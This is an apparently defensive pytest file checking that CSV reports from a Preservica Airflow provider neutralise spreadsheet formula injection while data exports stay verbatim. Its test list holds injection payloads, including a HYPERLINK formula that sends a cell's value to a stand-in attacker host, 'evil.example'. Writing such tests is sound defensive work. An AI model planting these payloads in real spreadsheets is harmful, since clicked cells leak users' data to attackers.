"""Reports meant for people open in a spreadsheet without running anything; data exports stay verbatim."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from airflow_provider_preservica.client.search import SearchHit
from airflow_provider_preservica.files.report_csv import read_back
from airflow_provider_preservica.ingest.report import IngestReport
from airflow_provider_preservica.ingest.staging import FileRecord, StagingManifest
from airflow_provider_preservica.ingest.staging import write_report as write_staging_report
from airflow_provider_preservica.metadata.model import Outcome, RowOutcome
from airflow_provider_preservica.metadata.report import write_report as write_metadata_report
from airflow_provider_preservica.metadata.runner import MetadataRun
from airflow_provider_preservica.search.report import write_report as write_search_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd",
    "\r=cmd",
    "'=already quoted",  # must survive a round trip too
]
REF = "8a7f1c52-0b7e-4f0e-9d2c-1e6b5a4c3d21"


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_spreadsheet_safe(rows: list[list[str]]) -> None:
    """No cell starts the way a spreadsheet formula does; every cell is quoted (checked on the raw text)."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"{cell!r} would run as a formula"


def test_metadata_report_neutralises_formulas_and_reads_back(tmp_path: Path) -> None:
    outcomes = [RowOutcome(i + 2, f"{value}", Outcome.INVALID, "", [value], value) for i, value in enumerate(HOSTILE)]
    outcomes.append(RowOutcome(9, REF, Outcome.CHANGED, REF, ["title 'a' -> 'b'"], ""))
    destination = tmp_path / "fix.report.csv"
    write_metadata_report(MetadataRun("fix.csv", False, outcomes), str(destination))
    with destination.open(newline="", encoding="utf-8") as handle:
        text = handle.read()
    rows = cells(text)
    assert_spreadsheet_safe(rows)
    assert text.splitlines()[0] == '"row","entity","reference","outcome","changes","message"'  # ';' locales too
    for row, value in zip(rows[1:], HOSTILE, strict=False):
        assert row[1] == row[4] == row[5] == "'" + value
        assert read_back(row[1]) == value
    assert rows[-1] == ["9", REF, REF, "changed", "title 'a' -> 'b'", ""]  # ordinary values are untouched


def test_ingest_and_delivery_reports_neutralise_formulas(tmp_path: Path) -> None:
    report = IngestReport("batch", REF, skipped_existing={value: REF for value in HOSTILE})
    rows = cells(report.skipped_csv())
    assert_spreadsheet_safe(rows)
    assert sorted(read_back(row[0]) for row in rows[1:]) == sorted(HOSTILE)

    manifest = StagingManifest("2026-12-06", "/landing/2026-12-06", "/landing/.staging/2026-12-06", "ns")
    manifest.files = [FileRecord(path=value, source_id=value, detail="@SUM(1)", bytes=5) for value in HOSTILE[:4]]
    csv_path, _ = write_staging_report(manifest, str(tmp_path / "ingest-2026-12-06.csv"))
    rows = cells(Path(csv_path).read_text(encoding="utf-8"))
    assert_spreadsheet_safe(rows)
    by_path = {read_back(row[0]): row for row in rows[1:]}
    assert set(by_path) == set(HOSTILE[:4]) and {row[4] for row in rows[1:]} == {"5"}


def test_search_csv_is_a_data_export_and_keeps_values_verbatim() -> None:
    handle = io.StringIO()
    hits = [SearchHit(REF, "IO", {"xip.title": "=1+1"})]
    write_search_report(hits, ["xip.reference", "xip.title"], handle, "csv", 5)
    assert cells(handle.getvalue())[1] == [REF, "=1+1"]  # for programs: see the README's "Search reports"
